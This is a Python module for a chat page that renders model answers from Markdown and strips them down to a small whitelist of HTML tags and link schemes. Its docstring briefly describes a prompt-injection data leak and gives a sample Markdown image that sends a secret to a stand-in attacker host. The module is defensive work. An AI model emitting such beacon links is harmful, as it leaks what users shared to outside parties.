"""The chat page's answers as HTML: Markdown rendered on the server, then sanitized.

Model output is untrusted (a tool result the model quotes may carry anything a web page or
an e-mail did), so it goes through two well-kept libraries, each enough on its own:

1. **markdown-it-py** (CommonMark, plus tables and strikethrough) with raw HTML switched
   off: ``<script>`` or ``<img onerror=...>`` in the text comes out as text. Its link
   check drops ``javascript:``, ``vbscript:``, ``file:`` and ``data:`` URLs. Images are
   not rendered at all: an image would be fetched as soon as the answer is shown, so a
   model tricked into writing ``![](https://evil.example/?q=<secret>)`` could leak what it
   read without anyone clicking; written as Markdown it stays a link.
2. **nh3** (Rust's ammonia) then keeps only the tags Markdown makes and the ``href`` of
   ``http``, ``https`` and ``mailto`` links (relative URLs are dropped, so a link cannot
   point at this server's own API), and adds ``rel="noopener noreferrer nofollow"``.

The page's Content-Security-Policy (no inline script, no inline handler) is a third layer.
"""

from __future__ import annotations

from collections.abc import Sequence

import nh3
from markdown_it import MarkdownIt

__all__ = ["TAGS", "MarkdownRenderer"]

TAGS = frozenset(
    {
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
        "code", "pre", "blockquote", "ul", "ol", "li", "a",
        "table", "thead", "tbody", "tr", "th", "td",
    }
)  # fmt: skip
"""The only tags an answer may contain: those Markdown produces, images excepted."""

_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}}
_SCHEMES = {"http", "https", "mailto"}


class MarkdownRenderer:
    """Renders Markdown to sanitized HTML; one per server (it holds both parsers, built once)."""

    def __init__(self) -> None:
        self._markdown = (
            MarkdownIt("commonmark", {"html": False, "typographer": False})
            .enable(["table", "strikethrough"])
            .disable("image")
        )
        self._cleaner = nh3.Cleaner(
            tags=set(TAGS),
            clean_content_tags={"script", "style"},
            attributes={tag: set(names) for tag, names in _ATTRIBUTES.items()},
            url_schemes=set(_SCHEMES),
            url_relative="deny",
            link_rel="noopener noreferrer nofollow",
            set_tag_attribute_values={"a": {"target": "_blank"}},  # never away from the chat
            strip_comments=True,
        )

    def render(self, text: str) -> str:
        """``text`` (Markdown) as HTML that is safe to put in the page."""
        return self._cleaner.clean(self._markdown.render(text))

    def render_all(self, texts: Sequence[str]) -> list[str]:
        """Each of ``texts`` rendered, in order."""
        return [self.render(text) for text in texts]
